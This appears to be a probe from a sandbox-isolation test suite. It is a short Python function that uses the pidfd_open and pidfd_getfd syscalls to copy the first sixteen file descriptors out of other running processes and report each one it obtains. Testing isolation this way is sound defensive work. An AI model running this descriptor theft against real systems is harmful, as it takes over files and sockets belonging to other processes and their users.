"""Takes a copy of another process's descriptor out of its hands.

ids: 65
effect: reached
defence: No descriptor, memory or setting of another process can be opened, whoever started it.
"""

import ctypes

OPEN, TAKE = 434, 438  # pidfd_open, pidfd_getfd: the same on every machine


def attack(world):
    libc = ctypes.CDLL(None)
    for folder in world.others() if not world.calls else []:
        pid = int(folder.rpartition("/")[2])
        handle = libc.syscall(OPEN, pid, 0)
        for number in range(16) if handle >= 0 else ():
            if libc.syscall(TAKE, handle, number, 0) >= 0:
                world.tell(f"descriptor {number} of process {pid}")
